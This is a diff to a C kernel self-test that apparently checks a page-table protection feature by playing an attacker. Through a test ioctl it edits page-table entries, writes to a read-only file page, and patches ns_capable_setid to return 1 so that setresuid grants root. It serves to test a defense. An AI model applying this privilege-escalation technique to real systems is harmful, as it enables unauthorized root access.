@@ -25,7 +25,20 @@
 
 enum kind { FILE_PAGE, KERNEL_PAGE, FILE_VMA };
 
-#define WRITABLE (1UL << 1)
+#ifdef __x86_64__
+#define KILLED_BY_OOPS SIGKILL
+#define WRITABLE       (1UL << 1)
+#define READ_ONLY      0UL
+/* mov $1, %eax; ret */
+static const uint8_t say_yes[] = { 0xb8, 1, 0, 0, 0, 0xc3 };
+#else
+#define KILLED_BY_OOPS SIGSEGV
+/* It may be written to, and the CPU says so when it was. */
+#define WRITABLE       (1UL << 51)
+#define READ_ONLY      (1UL << 7)
+/* mov w0, #1; ret */
+static const uint8_t say_yes[] = { 0x20, 0, 0x80, 0x52, 0xc0, 0x03, 0x5f, 0xd6 };
+#endif
 
 /* Of a mapping: it may be written to, and may be made so */
 #define VM_WRITE    0x02UL
@@ -45,7 +58,7 @@ struct attacker {
 	uint64_t ns_capable_setid;
 	/* Shared with the process that watches. */
 	struct progress {
-		bool writes;
+		bool writing;
 		/* At least one did not kill the process. */
 		bool wrote;
 		bool is_root;
@@ -57,9 +70,10 @@ static void write_word(struct attacker *a, uint64_t address, uint64_t value)
 {
 	struct kpkeys_write_word word = { .address = address, .value = value };
 
-	a->progress->writes = true;
+	a->progress->writing = true;
 	if (ioctl(a->bug, KPKEYS_WRITE_WORD, &word))
 		fail("the bug");
+	a->progress->writing = false;
 	a->progress->wrote = true;
 }
 
@@ -68,15 +82,19 @@ static void write_entry(struct attacker *a, const struct table_entry *entry, uin
 	write_word(a, entry->address, value);
 }
 
-/* The kernel flushes the whole TLB instead of this many single pages. */
+/* The kernel flushes the whole TLB instead of what two pages so far apart enclose. */
 static void forget_translations(void)
 {
-	size_t size = 256 * PAGE_SIZE;
-	void *pages = mmap(NULL, size, PROT_READ | PROT_WRITE,
-			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+	size_t size = 16UL << 30;
+	volatile char *pages = mmap(NULL, size, PROT_READ | PROT_WRITE,
+				    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
 
-	if (pages == MAP_FAILED || munmap(pages, size))
+	if (pages == MAP_FAILED)
 		fail("pages to unmap");
+	pages[0] = 1;
+	pages[size - 1] = 1;
+	if (munmap((void *)pages, size))
+		fail("munmap");
 }
 
 /* The entry of a page in use. */
@@ -121,13 +139,10 @@ static void change_file(struct attacker *a)
 	volatile char *page = map_file();
 	struct table_entry entry = own_entry(&tables, page);
 
-	write_entry(a, &entry, entry.value | WRITABLE);
+	write_entry(a, &entry, (entry.value | WRITABLE) & ~READ_ONLY);
 	forget_translations();
 	*page = CHANGED;
 }
-
-/* mov $1, %eax; ret */
-static const uint8_t say_yes[] = { 0xb8, 1, 0, 0, 0, 0xc3 };
 
 /* Map the kernel's code in place of an own page, and make it say yes for a moment. */
 static void become_root(struct attacker *a)
@@ -137,7 +152,8 @@ static void become_root(struct attacker *a)
 			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
 	/* Functions are aligned, so this one begins and is changed in one page. */
 	uint8_t *code = page + a->ns_capable_setid % PAGE_SIZE, before[sizeof(say_yes)];
-	uint64_t frame = physical_address(&tables, a->ns_capable_setid) & ADDRESS_MASK;
+	struct tables kernel = kernels_tables(a->probe);
+	uint64_t frame = physical_address(&kernel, a->ns_capable_setid) & ADDRESS_MASK;
 	struct table_entry entry;
 
 	if (page == MAP_FAILED || !frame)
@@ -148,9 +164,11 @@ static void become_root(struct attacker *a)
 
 	memcpy(before, code, sizeof(before));
 	memcpy(code, say_yes, sizeof(say_yes));
+	__builtin___clear_cache((char *)code, (char *)code + sizeof(say_yes));
 	if (setresuid(0, 0, 0))
 		perror("setresuid");
 	memcpy(code, before, sizeof(before));
+	__builtin___clear_cache((char *)code, (char *)code + sizeof(before));
 	a->progress->is_root = getuid() == 0;
 
 	write_entry(a, &entry, entry.value);
@@ -190,6 +208,7 @@ static char first_character(const char *path)
 static void attack(struct attacker *a, void (*act)(struct attacker *))
 {
 	pid_t child;
+	bool killed;
 	int status;
 
 	*a->progress = (struct progress){ 0 };
@@ -200,7 +219,8 @@ static void attack(struct attacker *a, void (*act)(struct attacker *))
 		_exit(0);
 	}
 	status = wait_for(child);
-	if (!status || (a->progress->writes && WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL))
+	killed = WIFSIGNALED(status) && WTERMSIG(status) == KILLED_BY_OOPS;
+	if (!status || (a->progress->writing && killed))
 		return;
 	fprintf(stderr, "the attacker ended with wait status %#x\n", (unsigned int)status);
 	exit(1);
